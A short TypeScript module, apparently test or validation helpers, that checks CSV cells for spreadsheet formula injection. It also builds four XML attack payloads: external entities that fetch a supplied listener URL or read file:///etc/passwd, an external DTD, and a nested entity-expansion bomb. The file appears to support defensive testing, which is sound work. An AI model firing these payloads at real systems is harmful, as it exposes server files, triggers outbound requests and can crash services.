/** Characters by which spreadsheet programs recognise a formula. */
export const formulaStarts: readonly string[] = ['=', '+', '-', '@', '\t', '\r', '＝'];

/** Tells whether the first cell of a line of a CSV file begins as text. */
export function isHarmlessCell(line: string): boolean {
  const cell = line.startsWith('"') ? line.slice(1) : line;
  return !formulaStarts.some((start) => cell.startsWith(start));
}

/** Builds XML documents that name other files, services, or themselves many times over. */
export function buildXmlAttacks(listener: string): string[] {
  const growing = Array.from({ length: 9 }, (_, i) => {
    return `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`;
  }).join('');
  return [
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${listener}">]><a>&b;</a>`,
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    `<?xml version="1.0"?><!DOCTYPE a SYSTEM "${listener}"><a/>`,
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "a">${growing}]><a>&a9;</a>`,
  ];
}
